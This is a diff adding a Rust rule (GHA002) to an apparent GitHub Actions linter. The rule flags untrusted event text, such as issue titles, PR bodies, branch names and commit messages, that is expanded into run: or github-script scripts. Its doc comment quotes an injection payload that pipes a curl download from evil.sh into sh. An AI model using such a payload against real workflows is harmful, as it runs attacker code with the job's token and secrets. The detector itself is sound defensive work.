@@ -1,0 +1,172 @@
+//! GHA002: text an outsider controls (an issue's title, a pull request's body or branch name, a
+//! commit message, a comment) expanded by `${{ … }}` into a `run:` script or a
+//! `actions/github-script` `script:`. GitHub pastes the value into the script before the shell
+//! reads it, so a title like `"; curl evil.sh | sh; "` runs with the job's token and secrets.
+//! Passing the value through `env:` and quoting `"$VAR"` makes it data.
+
+use crate::checks::{Check, Hit};
+use crate::formats::github_actions::{Scalar, Workflow, contexts, expressions};
+
+pub const CHECK: Check = Check::github_actions(RULE, check);
+const RULE: &str = "GHA002";
+
+/// Context paths whose values anyone who can open an issue or a pull request, comment, or push
+/// a branch chooses. `*` stands for any index or key.
+const UNTRUSTED: &[&str] = &[
+    "github.event.issue.title",
+    "github.event.issue.body",
+    "github.event.pull_request.title",
+    "github.event.pull_request.body",
+    "github.event.pull_request.head.ref",
+    "github.event.pull_request.head.label",
+    "github.event.pull_request.head.repo.default_branch",
+    "github.event.pull_request.head.repo.description",
+    "github.event.pull_request.head.repo.homepage",
+    "github.event.comment.body",
+    "github.event.review.body",
+    "github.event.review_comment.body",
+    "github.event.discussion.title",
+    "github.event.discussion.body",
+    "github.event.pages.*.page_name",
+    "github.event.commits.*.message",
+    "github.event.commits.*.author.email",
+    "github.event.commits.*.author.name",
+    "github.event.head_commit.message",
+    "github.event.head_commit.author.email",
+    "github.event.head_commit.author.name",
+    "github.event.workflow_run.head_branch",
+    "github.event.workflow_run.head_commit.message",
+    "github.event.workflow_run.head_commit.author.email",
+    "github.event.workflow_run.head_commit.author.name",
+    "github.event.workflow_run.pull_requests.*.head.ref",
+    "github.head_ref",
+];
+
+/// Whether a context path is, or holds, a value from [`UNTRUSTED`] (`github.event.issue`
+/// serialised whole holds its title), or is a free-text input of a manually dispatched run.
+fn untrusted(path: &str, dispatch: &DispatchInputs) -> bool {
+    let input = path
+        .strip_prefix("inputs.")
+        .or_else(|| path.strip_prefix("github.event.inputs."));
+    if let Some(name) = input {
+        return dispatch.free_text(name);
+    }
+    UNTRUSTED.iter().any(|known| {
+        path == *known || known.starts_with(&format!("{path}.")) || matches_with_stars(known, path)
+    })
+}
+
+/// The inputs of `workflow_dispatch`, when the workflow has that trigger: whoever may run it
+/// types them. A `boolean`, `number` or `choice` input cannot carry a script.
+struct DispatchInputs {
+    dispatched: bool,
+    typed: Vec<(String, String)>,
+}
+
+impl DispatchInputs {
+    fn of(workflow: &Workflow<'_>) -> DispatchInputs {
+        let yaml = workflow.yaml;
+        let typed = yaml
+            .get(workflow.root, "on")
+            .or_else(|| yaml.get(workflow.root, "true"))
+            .and_then(|on| yaml.get(on.value, "workflow_dispatch"))
+            .and_then(|dispatch| yaml.get(dispatch.value, "inputs"))
+            .map(|inputs| {
+                yaml.keys(inputs.value)
+                    .into_iter()
+                    .map(|(name, entry)| {
+                        let kind = yaml
+                            .get(entry.value, "type")
+                            .and_then(|t| yaml.str(t.value))
+                            .unwrap_or("string")
+                            .to_owned();
+                        (name, kind)
+                    })
+                    .collect()
+            })
+            .unwrap_or_default();
+        DispatchInputs {
+            dispatched: workflow.runs_on("workflow_dispatch"),
+            typed,
+        }
+    }
+
+    fn free_text(&self, name: &str) -> bool {
+        self.dispatched
+            && self
+                .typed
+                .iter()
+                .find(|(input, _)| input == name)
+                .is_none_or(|(_, kind)| !matches!(kind.as_str(), "boolean" | "number" | "choice"))
+    }
+}
+
+fn matches_with_stars(pattern: &str, path: &str) -> bool {
+    let pattern: Vec<&str> = pattern.split('.').collect();
+    let path: Vec<&str> = path.split('.').collect();
+    pattern.len() == path.len()
+        && pattern
+            .iter()
+            .zip(&path)
+            .all(|(p, q)| *p == "*" || *q == "*" || p == q)
+}
+
+fn check(workflow: &Workflow<'_>, hits: &mut Vec<Hit>) {
+    let dispatch = DispatchInputs::of(workflow);
+    for job in &workflow.jobs {
+        for step in &job.steps {
+            if let Some(run) = &step.run {
+                judge(workflow, run, "a `run:` script", &dispatch, hits);
+            }
+            let github_script = step
+                .uses
+                .as_ref()
+                .is_some_and(|u| u.text.trim().starts_with("actions/github-script@"));
+            if github_script {
+                for (name, value) in &step.with {
+                    if name == "script" {
+                        judge(
+                            workflow,
+                            value,
+                            "an `actions/github-script` script",
+                            &dispatch,
+                            hits,
+                        );
+                    }
+                }
+            }
+        }
+    }
+}
+
+fn judge(
+    workflow: &Workflow<'_>,
+    script: &Scalar,
+    place: &str,
+    dispatch: &DispatchInputs,
+    hits: &mut Vec<Hit>,
+) {
+    let mut seen: Vec<&str> = Vec::new();
+    for (written, inside) in expressions(&script.text) {
+        let n = seen.iter().filter(|s| **s == written).count();
+        seen.push(written);
+        let Some(path) = contexts(inside)
+            .into_iter()
+            .find(|path| untrusted(path, dispatch))
+        else {
+            continue;
+        };
+        let who = if path.starts_with("inputs.") || path.starts_with("github.event.inputs.") {
+            "whoever triggers the workflow"
+        } else {
+            "an outsider"
+        };
+        hits.push(Hit::new(
+            RULE,
+            workflow.place_of(script, written, n),
+            format!(
+                "`{path}`, which {who} chooses, is expanded into {place}: pass it through `env:` and use \"$VARIABLE\""
+            ),
+        ));
+    }
+}
